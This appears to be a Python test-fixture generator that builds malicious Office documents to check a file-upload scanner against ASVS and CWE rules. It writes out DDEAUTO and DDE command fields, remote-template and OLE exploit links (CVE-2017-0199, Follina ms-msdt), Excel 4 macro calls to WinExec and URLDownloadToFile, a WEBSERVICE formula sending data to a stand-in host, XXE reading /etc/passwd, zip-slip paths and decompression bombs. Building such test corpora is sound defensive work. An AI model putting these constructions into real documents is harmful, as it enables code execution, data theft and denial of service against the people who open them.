"""Documents, tables and slides that run, load or hide."""

from hostile.archives_lib import Entry, archive, of

TYPES = "http://schemas.openxmlformats.org/package/2006/content-types"
RELATIONS = "http://schemas.openxmlformats.org/package/2006/relationships"
OFFICE = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
MACROS = "http://schemas.microsoft.com/office/2006/relationships"
W = "xmlns:w='http://schemas.openxmlformats.org/wordprocessingml/2006/main' xmlns:r='" + OFFICE + "'"
OLE = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(504)
PROGRAM = b"MZ\x90\0\x03\0\0\0\x04\0\0\0\xff\xff\0\0" + bytes(48) + b"PE\0\0"

MAIN = {
    "docx": ("word/document.xml", "application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml",
             f"<?xml version='1.0' encoding='UTF-8'?><w:document {W}><w:body><w:p><w:r><w:t>Hello</w:t></w:r></w:p>%s</w:body></w:document>"),
    "xlsx": ("xl/workbook.xml", "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml",
             f"<?xml version='1.0'?><workbook xmlns='http://schemas.openxmlformats.org/spreadsheetml/2006/main' xmlns:r='{OFFICE}'><sheets><sheet name='a' sheetId='1' r:id='rId1'/></sheets>%s</workbook>"),
    "pptx": ("ppt/presentation.xml", "application/vnd.openxmlformats-officedocument.presentationml.presentation.main+xml",
             f"<?xml version='1.0'?><p:presentation xmlns:p='http://schemas.openxmlformats.org/presentationml/2006/main' xmlns:r='{OFFICE}'><p:sldIdLst><p:sldId id='256' r:id='rId1'/></p:sldIdLst><p:notesSz cx='1' cy='1'/>%s</p:presentation>"),
}
INSIDE = {
    "docx": {},
    "xlsx": {"xl/worksheets/sheet1.xml": "<?xml version='1.0'?><worksheet xmlns='http://schemas.openxmlformats.org/spreadsheetml/2006/main'><sheetData><row r='1'><c r='A1'>%s<v>1</v></c></row></sheetData></worksheet>"},
    "pptx": {"ppt/slides/slide1.xml": "<?xml version='1.0'?><p:sld xmlns:p='http://schemas.openxmlformats.org/presentationml/2006/main' xmlns:a='http://schemas.openxmlformats.org/drawingml/2006/main' xmlns:r='" + OFFICE + "'><p:cSld><p:spTree><p:sp><p:nvSpPr><p:cNvPr id='2' name='a'>%s</p:cNvPr></p:nvSpPr></p:sp></p:spTree></p:cSld></p:sld>"},
}
PART_TYPES = {"xlsx": ("/xl/worksheets/sheet1.xml", "application/vnd.openxmlformats-officedocument.spreadsheetml.worksheet+xml", "worksheet", "worksheets/sheet1.xml"),
              "pptx": ("/ppt/slides/slide1.xml", "application/vnd.openxmlformats-officedocument.presentationml.slide+xml", "slide", "slides/slide1.xml")}


def relation(kind: str, target: str, mode: str = "", number: int = 9) -> str:
    kind = kind if "://" in kind else f"{OFFICE}/{kind}"
    mode = f" TargetMode='{mode}'" if mode else ""
    return f"<Relationship Id='rId{number}' Type='{kind}' Target='{target}'{mode}/>"


def relations(*all_of_them: str) -> str:
    return f"<?xml version='1.0' encoding='UTF-8'?><Relationships xmlns='{RELATIONS}'>" + "".join(all_of_them) + "</Relationships>"


def parts(kind: str, body: str = "", inside: str = "", links: list | None = None, inside_links: list | None = None, types: str = "", more: dict | None = None, main_type: str = "") -> dict:
    """The parts of a document with these additions."""
    path, content_type, main = MAIN[kind]
    folder, name = path.rsplit("/", 1)
    links = list(links or [])
    override = f"<Override PartName='/{path}' ContentType='{main_type or content_type}'/>"
    whole = {"[Content_Types].xml": "", "_rels/.rels": relations(relation("officeDocument", path, number=1)), path: main % body}
    if kind in PART_TYPES:
        part, part_type, relation_kind, target = PART_TYPES[kind]
        override += f"<Override PartName='{part}' ContentType='{part_type}'/>"
        links.append(relation(relation_kind, target, number=1))
        for name_inside, text in INSIDE[kind].items():
            whole[name_inside] = text % inside
            if inside_links:
                where, last = name_inside.rsplit("/", 1)
                whole[f"{where}/_rels/{last}.rels"] = relations(*inside_links)
    whole["[Content_Types].xml"] = (f"<?xml version='1.0' encoding='UTF-8'?><Types xmlns='{TYPES}'><Default Extension='rels' ContentType='application/vnd.openxmlformats-package.relationships+xml'/>"
                                    f"<Default Extension='xml' ContentType='application/xml'/><Default Extension='png' ContentType='image/png'/>{override}{types}</Types>")
    if links:
        whole[f"{folder}/_rels/{name}.rels"] = relations(*links)
    whole.update(more or {})
    return whole


def document(kind: str, **options) -> bytes:
    return of(parts(kind, **options))


ACTIVE = "active_content"
EXTERNAL = "external"
EITHER = "external|active_content"
RUNS = "ASVS V5.2.2, CWE-434"
LOADS = "ASVS V1.3.6, CWE-918"


def macros(group):
    for kind in MAIN:
        folder = MAIN[kind][0].split("/")[0]

        def put(name, what, kind=kind, words=ACTIVE, **options):
            group.hostile(f"{kind}/macro-{name}.{kind}", document(kind, **options), words, RUNS, what)

        project = relation(f"{MACROS}/vbaProject", "vbaProject.bin")
        put("vba", "macros", links=[project], more={f"{folder}/vbaProject.bin": OLE})
        put("other-name", "macros under the name of a picture", links=[relation(f"{MACROS}/vbaProject", "media/image1.png")], more={f"{folder}/media/image1.png": OLE})
        put("by-type", "macros by their content type alone", types=f"<Override PartName='/{folder}/a.xml' ContentType='application/vnd.ms-office.vbaProject'/>", more={f"{folder}/a.xml": OLE})
        put("default-type", "macros by the content type of an extension", types="<Default Extension='dat' ContentType='application/vnd.ms-office.vbaProject'/>", more={f"{folder}/a.dat": OLE})
        put("entity-type", "the content type is written with character references", types=f"<Override PartName='/{folder}/a.xml' ContentType='application/vnd.ms-office.vba&#80;roject'/>", more={f"{folder}/a.xml": OLE})
        enabled = {"docx": "application/vnd.ms-word.document.macroEnabled.main+xml", "xlsx": "application/vnd.ms-excel.sheet.macroEnabled.main+xml", "pptx": "application/vnd.ms-powerpoint.presentation.macroEnabled.main+xml"}[kind]
        put("renamed", f"a document with macros that was renamed to .{kind}", main_type=enabled, links=[project], more={f"{folder}/vbaProject.bin": OLE})
        put("case", "the part with macros in other letters", links=[project], more={f"{folder}/VBAPROJECT.BIN": OLE})
        put("data", "the data of macros", links=[relation(f"{MACROS}/wordVbaData", "vbaData.xml")], more={f"{folder}/vbaData.xml": "<x/>"})
        put("activex", "a control", links=[relation("control", "activeX/activeX1.xml")], more={f"{folder}/activeX/activeX1.xml": "<ax:ocx xmlns:ax='http://schemas.microsoft.com/office/2006/activeX' ax:classid='{8856F961-340A-11D0-A96B-00C04FD705A2}'/>"})
        put("ole", "an OLE object", links=[relation("oleObject", "embeddings/oleObject1.bin")], more={f"{folder}/embeddings/oleObject1.bin": OLE})
        put("ole-other-name", "an OLE object under the name of a picture", links=[relation("oleObject", "media/image2.png")], more={f"{folder}/media/image2.png": OLE})
        put("package-exe", "an embedded program", links=[relation("package", "embeddings/setup.exe")], more={f"{folder}/embeddings/setup.exe": PROGRAM})
        put("package-program-as-xlsx", "an embedded program under the name of a table", links=[relation("package", "embeddings/table.xlsx")], more={f"{folder}/embeddings/table.xlsx": PROGRAM}, words="active_content|damaged")
        put("package-macro-inside", "an embedded table that has macros", links=[relation("package", "embeddings/table.xlsx")], more={f"{folder}/embeddings/table.xlsx": document("xlsx", links=[project], more={"xl/vbaProject.bin": OLE})})
        put("customui", "a ribbon that calls a macro on loading", more={"customUI/customUI.xml": "<customUI xmlns='http://schemas.microsoft.com/office/2006/01/customui' onLoad='Auto'/>", "_rels/.rels": relations(relation("officeDocument", MAIN[kind][0], number=1), relation("http://schemas.microsoft.com/office/2006/relationships/ui/extensibility", "customUI/customUI.xml", number=2))})
        put("script-inside", "a script of the Windows Script Host", more={f"{folder}/media/a.js": "WScript.Shell"})


def fields(group):
    def put(name, what, body, words=EITHER, **options):
        group.hostile(f"docx/field-{name}.docx", document("docx", body=body, **options), words, RUNS, what)

    def simple(instruction):
        return f"<w:p><w:fldSimple w:instr='{instruction}'/></w:p>"

    def complex_field(*pieces):
        runs = "".join(f"<w:r><w:instrText xml:space='preserve'>{piece}</w:instrText></w:r>" for piece in pieces)
        return f"<w:p><w:r><w:fldChar w:fldCharType='begin'/></w:r>{runs}<w:r><w:fldChar w:fldCharType='end'/></w:r></w:p>"

    put("ddeauto", "DDEAUTO as a simple field", simple(" DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe &quot;/k calc&quot; "))
    put("dde", "DDE", simple("DDE excel &quot;a&quot;"))
    put("ddeauto-complex", "DDEAUTO as a complex field", complex_field(" DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe"))
    put("ddeauto-split", "DDEAUTO over several runs", complex_field(" DD", "EAU", "TO cmd"))
    put("ddeauto-case", "ddeauto in small letters", complex_field(" ddeauto cmd"))
    put("ddeauto-entity", "DDEAUTO with character references", complex_field("&#68;DE&#65;UTO cmd"))
    put("ddeauto-cdata", "DDEAUTO in CDATA", complex_field("<![CDATA[DDE]]>AUTO cmd"))
    put("ddeauto-comment", "DDEAUTO with a comment of XML inside", complex_field("DDE<!-- x -->AUTO cmd"))
    put("ddeauto-nested", "a field inside a field builds the command", "<w:p><w:r><w:fldChar w:fldCharType='begin'/></w:r><w:r><w:instrText>DDEAUTO </w:instrText></w:r>" + complex_field("QUOTE 99 109 100")[5:-6] + "<w:r><w:fldChar w:fldCharType='end'/></w:r></w:p>")
    footer = f"<?xml version='1.0'?><w:ftr {W}>{simple('DDEAUTO cmd')}</w:ftr>"
    put("ddeauto-footer", "DDEAUTO in a footer", "", links=[relation("footer", "footer1.xml")], more={"word/footer1.xml": footer})
    put("ddeauto-footnotes", "DDEAUTO in a footnote", "", links=[relation("footnotes", "footnotes.xml")], more={"word/footnotes.xml": footer.replace("w:ftr", "w:footnotes")})
    put("ddeauto-prefix", "another prefix of the namespace", "", more={"word/document.xml": "<?xml version='1.0'?><x:document xmlns:x='http://schemas.openxmlformats.org/wordprocessingml/2006/main'><x:body><x:p><x:fldSimple x:instr='DDEAUTO cmd'/></x:p></x:body></x:document>"})
    put("includepicture", "a picture of another host by a field", simple("INCLUDEPICTURE \\\\\\\\host\\\\share\\\\a.png \\d"))
    put("includetext", "a text of another host by a field", simple("INCLUDETEXT &quot;http://host/a.docx&quot;"))
    put("link", "a link to a table elsewhere by a field", simple("LINK Excel.Sheet.8 &quot;\\\\\\\\host\\\\a.xls&quot; Sheet1 \\a"))
    put("import", "IMPORT, the old word of INCLUDEPICTURE", simple("IMPORT \\\\\\\\host\\\\a.png"))
    put("database", "DATABASE with an address", simple("DATABASE \\d &quot;\\\\\\\\host\\\\a.mdb&quot; \\s &quot;SELECT *&quot;"))


def elsewhere(group):
    def put(name, what, kind="docx", words=EXTERNAL, **options):
        group.hostile(f"{kind}/elsewhere-{name}.{kind}", document(kind, **options), words, LOADS, what)

    settings = {"word/settings.xml": f"<?xml version='1.0'?><w:settings {W}><w:attachedTemplate r:id='rId9'/></w:settings>"}
    for name, target in [("http", "http://host.example/a.dotm"), ("unc", "\\\\host\\share\\a.dotm"), ("unc-slash", "//host/share/a.dotm"), ("file-host", "file://host/share/a.dotm"), ("file-slashes", "file://///host/share/a.dotm"), ("file-backslash", "file:\\\\host\\share\\a.dotm"), ("case", "HtTp://host.example/a.dotm"), ("entity", "&#104;ttp://host.example/a.dotm"), ("ip", "http://2130706433/a"), ("port-webdav", "\\\\host@SSL@8443\\DavWWWRoot\\a.dotm"), ("ftp", "ftp://host/a.dotm"), ("device", "\\\\?\\UNC\\host\\share\\a.dotm"), ("space", " http://host.example/a.dotm")]:
        put(f"template-{name}", f"a template of another host: {name}", links=[relation("settings", "settings.xml", number=2)], more={**settings, "word/_rels/settings.xml.rels": relations(relation("attachedTemplate", target, "External"))})
    put("template-no-mode", "a template of another host without TargetMode", links=[relation("attachedTemplate", "http://host.example/a.dotm")], more=settings)
    put("template-strict", "a template of another host, with the relationships of ISO strict", links=[relation("http://purl.oclc.org/ooxml/officeDocument/relationships/attachedTemplate", "http://host.example/a.dotm", "External")])
    put("template-prefix", "relationships under a prefix", more={"word/_rels/document.xml.rels": f"<?xml version='1.0'?><r:Relationships xmlns:r='{RELATIONS}'><r:Relationship Id='rId9' Type='{OFFICE}/attachedTemplate' Target='http://host/a.dotm' TargetMode='External'/></r:Relationships>"})
    for kind in MAIN:
        put("ole", "an OLE link to another host (CVE-2017-0199)", kind=kind, words=EITHER, links=[relation("oleObject", "http://host.example/a.hta", "External")])
        put("ole-mhtml", "an OLE link by mhtml: (CVE-2021-40444)", kind=kind, words=EITHER, links=[relation("oleObject", "mhtml:http://host.example/a.html!x-usc:http://host.example/a.html", "External")])
        put("ole-html", "an OLE link to a page (CVE-2022-30190)", kind=kind, words=EITHER, links=[relation("oleObject", "https://host.example/RDF842l.html!", "External")])
        put("image-unc", "a picture on another host by a UNC path", kind=kind, links=[relation("image", "\\\\host\\share\\a.png", "External")])
        put("image-file-host", "a picture on another host by file:", kind=kind, links=[relation("image", "file://host/share/a.png", "External")])
        put("custom", "a relationship of an unknown type to another host", kind=kind, links=[relation("http://example.org/x", "http://host.example/a", "External")])
        put("root", "a relationship of the package to another host", kind=kind, more={"_rels/.rels": relations(relation("officeDocument", MAIN[kind][0], number=1), relation("officeDocument", "http://host.example/a.docx", "External", number=2))})
    put("frame", "a frame of another host", links=[relation("frame", "http://host.example/a.docx", "External")])
    put("subdocument", "a subdocument of another host", links=[relation("subDocument", "\\\\host\\share\\a.docx", "External")])
    put("altchunk", "a chunk of another host", words=EITHER, links=[relation("aFChunk", "http://host.example/a.html", "External")], body="<w:altChunk r:id='rId9'/>")
    put("altchunk-html", "a chunk of HTML inside, which Word converts", words=EITHER, links=[relation("aFChunk", "chunk.html")], body="<w:altChunk r:id='rId9'/>", more={"word/chunk.html": "<script>alert(1)</script><img src='\\\\host\\a.png'>"})
    put("altchunk-mht", "a chunk of MHT inside", words=EITHER, links=[relation("aFChunk", "chunk.mht")], body="<w:altChunk r:id='rId9'/>", more={"word/chunk.mht": "MIME-Version: 1.0\r\nContent-Type: text/html\r\n\r\n<img src=file://host/a>"})
    put("mailmerge", "data for a serial letter from another host", links=[relation("mailMergeSource", "\\\\host\\share\\a.mdb", "External")])
    put("schema", "a transformation of another host", links=[relation("transform", "http://host.example/a.xslt", "External")])
    put("hyperlink-script", "a link to javascript:", words=EITHER, links=[relation("hyperlink", "javascript:alert(1)", "External")])
    put("hyperlink-msdt", "a link to ms-msdt:", words=EITHER, links=[relation("hyperlink", "ms-msdt:/id PCWDiagnostic", "External")])
    put("hyperlink-file", "a link to a program", words=EITHER, links=[relation("hyperlink", "file:///C:/Windows/System32/calc.exe", "External")])
    put("vml-picture", "a picture of another host in VML", words=EITHER, body="<w:p><w:r><w:pict><v:shape xmlns:v='urn:schemas-microsoft-com:vml'><v:imagedata src='\\\\host\\share\\a.png'/></v:shape></w:pict></w:r></w:p>")

    put("external-link", "a table of another host", kind="xlsx", links=[relation("externalLink", "externalLinks/externalLink1.xml")], more={"xl/externalLinks/externalLink1.xml": f"<externalLink xmlns='http://schemas.openxmlformats.org/spreadsheetml/2006/main' xmlns:r='{OFFICE}'><externalBook r:id='rId1'/></externalLink>", "xl/externalLinks/_rels/externalLink1.xml.rels": relations(relation("externalLinkPath", "\\\\host\\share\\a.xlsx", "External", 1))})
    put("dde-link", "a DDE link that starts a program", kind="xlsx", words=EITHER, links=[relation("externalLink", "externalLinks/externalLink1.xml")], more={"xl/externalLinks/externalLink1.xml": "<externalLink xmlns='http://schemas.openxmlformats.org/spreadsheetml/2006/main'><ddeLink ddeService='cmd' ddeTopic='/c calc'><ddeItems><ddeItem name='A0' advise='1'/></ddeItems></ddeLink></externalLink>"})
    put("connection-web", "a web query on opening", kind="xlsx", words=EITHER, links=[relation("connections", "connections.xml")], more={"xl/connections.xml": "<connections xmlns='http://schemas.openxmlformats.org/spreadsheetml/2006/main'><connection id='1' type='4' refreshOnLoad='1'><webPr url='http://host.example/a' sourceData='1'/></connection></connections>"})
    put("connection-odbc", "a database on opening", kind="xlsx", words=EITHER, links=[relation("connections", "connections.xml")], more={"xl/connections.xml": "<connections xmlns='http://schemas.openxmlformats.org/spreadsheetml/2006/main'><connection id='1' type='1' refreshOnLoad='1'><dbPr connection='DRIVER=SQL Server;SERVER=host' command='exec xp_cmdshell'/></connection></connections>"})
    put("query-table", "a query table", kind="xlsx", words=EITHER, inside_links=[relation("queryTable", "../queryTables/queryTable1.xml")], more={"xl/queryTables/queryTable1.xml": "<queryTable xmlns='http://schemas.openxmlformats.org/spreadsheetml/2006/main' connectionId='1' refreshOnLoad='1'/>"})
    put("pivot-source", "a pivot table with an external source", kind="xlsx", words=EITHER, links=[relation("pivotCacheDefinition", "pivotCache/pivotCacheDefinition1.xml")], more={"xl/pivotCache/pivotCacheDefinition1.xml": "<pivotCacheDefinition xmlns='http://schemas.openxmlformats.org/spreadsheetml/2006/main' refreshOnLoad='1'><cacheSource type='external' connectionId='1'/></pivotCacheDefinition>"})
    for name, formula in [("dde", "cmd|'/C calc'!A0"), ("webservice", "WEBSERVICE(&quot;http://host.example/&quot;&amp;A2)"), ("webservice-prefix", "_xlfn.WEBSERVICE(&quot;http://host.example/&quot;)"), ("call", "CALL(&quot;Kernel32&quot;,&quot;WinExec&quot;,&quot;JCJ&quot;,&quot;calc&quot;,0)"), ("register", "REGISTER(&quot;urlmon&quot;,&quot;URLDownloadToFileA&quot;)"), ("exec", "EXEC(&quot;calc&quot;)"), ("rtd", "RTD(&quot;prog.id&quot;,,1)"), ("image", "_xlfn.IMAGE(&quot;http://host.example/a.png&quot;)"), ("book", "'\\\\host\\share\\[a.xlsx]Sheet1'!A1")]:
        group.hostile(f"xlsx/formula-{name}.xlsx", document("xlsx", inside=f"<f>{formula}</f>"), EITHER, RUNS, f"a formula that loads or runs: {name}")
    macro = "<?xml version='1.0'?><xm:macrosheet xmlns='http://schemas.openxmlformats.org/spreadsheetml/2006/main' xmlns:xm='http://schemas.microsoft.com/office/excel/2006/main'><sheetData><row r='1'><c r='A1'><f>EXEC(\"calc\")</f></c></row></sheetData></xm:macrosheet>"
    for name, part, kind_of_relation in [("xlm", "macrosheets/sheet1.xml", f"{MACROS}/xlMacrosheet"), ("xlm-international", "macrosheets/intlsheet1.xml", f"{MACROS}/xlIntlMacrosheet"), ("xlm-other-name", "worksheets/sheet2.xml", f"{MACROS}/xlMacrosheet")]:
        group.hostile(f"xlsx/{name}.xlsx", document("xlsx", links=[relation(kind_of_relation, part, number=2)], types=f"<Override PartName='/xl/{part}' ContentType='application/vnd.ms-excel.macrosheet+xml'/>", more={f"xl/{part}": macro}), ACTIVE, RUNS, "a sheet of Excel 4 macros")
    group.hostile("xlsx/auto-open.xlsx", document("xlsx", body="<definedNames><definedName name='_xlnm.Auto_Open' hidden='1'>a!$A$1</definedName></definedNames>", inside="<f>EXEC(&quot;calc&quot;)</f>"), ACTIVE, RUNS, "a name Auto_Open")
    group.hostile("xlsx/dialog-sheet.xlsx", document("xlsx", links=[relation("dialogsheet", "dialogsheets/sheet1.xml", number=2)], types="<Override PartName='/xl/dialogsheets/sheet1.xml' ContentType='application/vnd.openxmlformats-officedocument.spreadsheetml.dialogsheet+xml'/>", more={"xl/dialogsheets/sheet1.xml": "<dialogsheet xmlns='http://schemas.openxmlformats.org/spreadsheetml/2006/main'/>"}), ACTIVE, RUNS, "a dialog sheet of Excel 5, whose controls call macros")
    group.hostile("xlsx/binary-workbook.xlsx", document("xlsx", main_type="application/vnd.ms-excel.sheet.binary.macroEnabled.main"), "active_content|damaged", RUNS, "a binary workbook (.xlsb) that was renamed")
    group.hostile("xlsx/vml-macro.xlsx", document("xlsx", inside_links=[relation("vmlDrawing", "../drawings/vmlDrawing1.vml")], types="<Default Extension='vml' ContentType='application/vnd.openxmlformats-officedocument.vmlDrawing'/>", more={"xl/drawings/vmlDrawing1.vml": "<xml xmlns:v='urn:schemas-microsoft-com:vml' xmlns:x='urn:schemas-microsoft-com:office:excel'><v:shape><x:ClientData ObjectType='Button'><x:FmlaMacro>[0]!Auto</x:FmlaMacro></x:ClientData></v:shape></xml>"}), ACTIVE, RUNS, "a button that calls a macro")
    for name, action, target in [("program", "ppaction://program", "file:///C:/Windows/System32/calc.exe"), ("macro", "ppaction://macro?name=Auto", ""), ("ole", "ppaction://ole?verb=0", ""), ("file", "ppaction://hlinkfile", "\\\\host\\share\\a.exe")]:
        link = [relation("hyperlink", target, "External")] if target else []
        for event in ["hlinkClick", "hlinkMouseOver", "hlinkHover"]:
            group.hostile(f"pptx/action-{name}-{event.lower()}.pptx", document("pptx", inside=f"<a:{event} r:id='rId9' action='{action}'/>", inside_links=link), EITHER, RUNS, f"a shape that runs something: {action} by {event}")
    for media in ["video", "audio", "media"]:
        kind_of_relation = media if media != "media" else "http://schemas.microsoft.com/office/2007/relationships/media"
        put(f"{media}", f"a film or sound of another host: {media}", kind="pptx", inside_links=[relation(kind_of_relation, "\\\\host\\share\\a.mp4", "External")])
    put("slide-update", "slides that are updated from another host", kind="pptx", inside_links=[relation("slideUpdateUrl", "http://host.example/a", "External")])


def xml(group):
    def put(name, what, words, more, kind="docx", rule="ASVS V1.5.1, CWE-611"):
        group.hostile(f"{kind}/xml-{name}.{kind}", document(kind, more=more), words, rule, what)

    root = f"<w:document {W}><w:body><w:p><w:r><w:t>&x;</w:t></w:r></w:p></w:body></w:document>"
    put("xxe", "an external entity", "external|damaged", {"word/document.xml": f"<?xml version='1.0'?><!DOCTYPE a [<!ENTITY x SYSTEM 'file:///etc/passwd'>]>{root}"})
    put("xxe-dtd", "an external DTD", "external|damaged", {"word/document.xml": f"<?xml version='1.0'?><!DOCTYPE a SYSTEM 'http://host.example/a.dtd'>{root}"})
    put("xxe-parameter", "a parameter entity", "external|damaged", {"word/document.xml": f"<?xml version='1.0'?><!DOCTYPE a [<!ENTITY % x SYSTEM 'http://host.example/a.dtd'>%x;]>{root}"})
    laughs = "".join(f"<!ENTITY l{n} '{('&l%d;' % (n - 1)) * 10}'>" for n in range(1, 10))
    put("billion-laughs", "entities that grow to a billion", "external|damaged|bomb", {"word/document.xml": f"<?xml version='1.0'?><!DOCTYPE a [<!ENTITY l0 'lol'>{laughs}<!ENTITY x '&l9;'>]>{root}"}, rule="ASVS V1.5.1, CWE-776")
    put("dtd-in-relations", "a DTD in the relationships", "external|damaged", {"word/_rels/document.xml.rels": f"<?xml version='1.0'?><!DOCTYPE a [<!ENTITY x 'http://host/a'>]><Relationships xmlns='{RELATIONS}'><Relationship Id='rId9' Type='{OFFICE}/attachedTemplate' Target='&x;' TargetMode='External'/></Relationships>"})
    put("dtd-in-types", "a DTD in the content types", "external|damaged", {"[Content_Types].xml": parts("docx")["[Content_Types].xml"].replace("<Types", "<!DOCTYPE Types [<!ENTITY x 'y'>]><Types")})
    put("dtd-custom", "a DTD in a part that is not referred to", "external|damaged", {"customXml/item1.xml": "<!DOCTYPE a SYSTEM 'http://host.example/a.dtd'><a/>"})
    put("dtd-other-extension", "a DTD in a part with another extension", "external|damaged|active_content", {"word/glossary.dat": "<!DOCTYPE a SYSTEM 'http://host.example/a'><a/>", "[Content_Types].xml": parts("docx", types="<Default Extension='dat' ContentType='application/vnd.openxmlformats-officedocument.wordprocessingml.document.glossary+xml'/>")["[Content_Types].xml"]})
    hostile = f"<?xml version='1.0' encoding='%s'?><!DOCTYPE a [<!ENTITY x SYSTEM 'file:///etc/passwd'>]>{root}"
    for encoding in ["utf-16-le", "utf-16-be", "utf-32-le", "utf-7", "cp037"]:
        marks = {"utf-16-le": b"\xff\xfe", "utf-16-be": b"\xfe\xff", "utf-32-le": b"\xff\xfe\0\0"}
        label = {"utf-16-le": "UTF-16", "utf-16-be": "UTF-16", "utf-32-le": "UTF-32", "cp037": "IBM037", "utf-7": "UTF-7"}[encoding]
        text = hostile % label
        content = text.encode(encoding) if encoding != "utf-7" else text.split("?>")[0].encode() + b"?>" + "".join(text.split("?>")[1:]).replace("<", "+ADw-").replace(">", "+AD4-").encode()
        put(f"xxe-{encoding}", f"an external entity in {label}", "external|damaged", {"word/document.xml": marks.get(encoding, b"") + content})
        link = relations(relation("attachedTemplate", "http://host.example/a.dotm", "External")).replace("UTF-8", label)
        content = link.encode(encoding) if encoding != "utf-7" else link.split("?>")[0].encode() + b"?>" + "".join(link.split("?>")[1:]).replace("<", "+ADw-").replace(">", "+AD4-").encode()
        put(f"template-{encoding}", f"a template of another host in {label}", "external|damaged", {"word/_rels/document.xml.rels": marks.get(encoding, b"") + content}, rule=LOADS)
    field = f"<?xml version='1.0' encoding='UTF-16'?><w:document {W}><w:body><w:p><w:fldSimple w:instr='DDEAUTO cmd'/></w:p></w:body></w:document>"
    put("ddeauto-utf-16", "DDEAUTO in UTF-16", "external|active_content|damaged", {"word/document.xml": b"\xff\xfe" + field.encode("utf-16-le")}, rule=RUNS)
    put("nested", "elements nested 100,000 deep", "damaged|bomb", {"word/document.xml": f"<w:document {W}>" + "<w:p>" * 100000 + "</w:p>" * 100000 + "</w:document>"}, rule="ASVS V5.2.3, CWE-674")
    put("attributes", "an element with 20,000 attributes", "damaged|bomb", {"word/document.xml": f"<w:document {W} " + " ".join(f"a{n}=''" for n in range(20000)) + "/>"}, rule="ASVS V5.2.3, CWE-407")
    put("not-well-formed", "relationships that are not well formed, which readers repair in different ways", "damaged|external", {"word/_rels/document.xml.rels": f"<Relationships xmlns='{RELATIONS}'><Relationship Id='rId9' Type='{OFFICE}/attachedTemplate' Target='http://host/a' TargetMode='External'"}, rule=LOADS)


def containers(group):
    whole = parts("docx")
    entries = [Entry(name, content) for name, content in whole.items()]

    def put(name, content, words, what, rule="ASVS V5.2.2, CWE-436"):
        group.hostile(f"docx/zip-{name}.docx", content, words, rule, what)

    put("duplicate-document", archive([*entries, Entry("word/document.xml", whole["word/document.xml"].replace("Hello", "Other"))]), "damaged", "two parts of one name")
    put("duplicate-case", archive([*entries, Entry("WORD/document.xml", "<x/>")]), "damaged", "two parts whose names differ in letters' case")
    put("local-name-differs", archive([*entries, Entry("word/media/a.png", OLE, **{"local.name": b"word/vbaProject.bin"})]), "damaged|active_content", "the local header names macros, the directory a picture")
    put("hidden-entry", archive([*entries, Entry("word/vbaProject.bin", OLE, only_local=True)]), "damaged|active_content", "macros that only the local headers name")
    put("prepended-zip", archive(entries, before=of({"word/vbaProject.bin": OLE})), "damaged|trailing_data|active_content", "another archive before the first entry")
    put("prepended-script", archive(entries, before=b"#!/bin/sh\nexec calc\n"), "damaged|trailing_data|unknown_kind", "a script before the first entry")
    put("comment", archive(entries, comment=b"<script>alert(1)</script>"), "trailing_data|damaged", "an archive's comment")
    put("appended", archive(entries) + b"#!/bin/sh\n", "trailing_data|damaged", "a script after the end")
    put("encrypted-flag", archive([*entries, Entry("word/media/a.png", b"x", flags=0x801)]), "encrypted", "an encrypted part")
    put("backslash", archive([*entries, Entry("word\\vbaProject.bin", OLE)]), "damaged|active_content", "a path with a backslash")
    put("escape", archive([*entries, Entry("../../../startup.bat", "calc")]), "damaged|active_content", "a path that leads out", "ASVS V5.3.3, CWE-22")
    put("absolute", archive([*entries, Entry("/etc/cron.d/a", "x")]), "damaged", "an absolute path", "ASVS V5.3.3, CWE-22")
    put("symlink", archive([*entries, Entry("word/media/a.png", "/etc/passwd", made_by=0x314, attributes=0o120777 << 16)]), "damaged", "a symbolic link", "ASVS V5.2.5, CWE-61")
    put("nul-name", archive([*entries, Entry("word/media/a.png\0.exe", "x")]), "damaged|active_content", "a name with NUL")
    put("no-document", archive(entries[:2]), "damaged|unknown_kind|extension_disagrees", "no document part")
    put("xlsx-as-docx", document("xlsx"), "extension_disagrees|unknown_kind|damaged", "a table under the name of a document", "ASVS V5.2.2, CWE-646")
    put("apk", of({"META-INF/MANIFEST.MF": "Manifest-Version: 1.0\r\n", **whole, "classes.dex": b"dex\n035\0", "AndroidManifest.xml": b"\3\0\x08\0"}), "damaged|active_content|unknown_kind|extension_disagrees", "a document that is an Android program too", "ASVS V5.2.2, CWE-434")
    put("jar", of({**whole, "META-INF/MANIFEST.MF": "Manifest-Version: 1.0\r\nMain-Class: A\r\n", "A.class": b"\xca\xfe\xba\xbe\0\0\0\x34"}), "damaged|active_content|unknown_kind|extension_disagrees", "a document that is a Java program too (GIFAR)", "ASVS V5.2.2, CWE-434")
    bomb = bytes(48 * 1024 * 1024)
    put("bomb", archive([*entries, Entry("word/media/a.bmp", bomb)]), "bomb", "48 MiB of zeros", "ASVS V5.2.3, CWE-409")
    put("size-lies", archive([*entries, Entry("word/media/a.bmp", bomb, size=100)]), "bomb|damaged", "48 MiB of zeros that say they are 100 bytes", "ASVS V5.2.3, CWE-409")
    put("crc-wrong", archive([*entries, Entry("word/media/a.png", b"x" * 99, crc=1)]), "damaged", "a wrong checksum", "ASVS V5.2.2, CWE-354")
    put("method", archive([*entries, Entry("word/media/a.png", b"x", method=99)]), "damaged|encrypted", "an unknown compression")
    put("disk", archive([*entries, Entry("word/media/a.png", b"x", disk=3)]), "damaged", "a part on another disk")
    put("overlap", overlapping(entries), "bomb|damaged", "two entries that share their bytes (Fifield)", "ASVS V5.2.3, CWE-409")
    for kind in ["xlsx", "pptx"]:
        group.hostile(f"{kind}/zip-macro-prepended.{kind}", archive([Entry(n, c) for n, c in parts(kind).items()], before=b"MZ" + bytes(100)), "damaged|trailing_data|unknown_kind", RUNS, "a program before the first entry")
        group.hostile(f"{kind}/zip-no-main.{kind}", of({name: text for name, text in parts(kind).items() if not name.endswith(("workbook.xml", "presentation.xml"))}), "damaged|unknown_kind|extension_disagrees", "ASVS V5.2.2, CWE-20", "no main part")
        group.hostile(f"{kind}/docx-as-{kind}.{kind}", of(whole), "extension_disagrees|unknown_kind|damaged", "ASVS V5.2.2, CWE-646", "a document under another name")
    group.hostile("docx/ole-encrypted.docx", OLE + b"EncryptedPackage".ljust(1536, b"\0"), "encrypted|unknown_kind", RUNS, "an OLE file under the name of a document: encrypted, or an old document with macros")
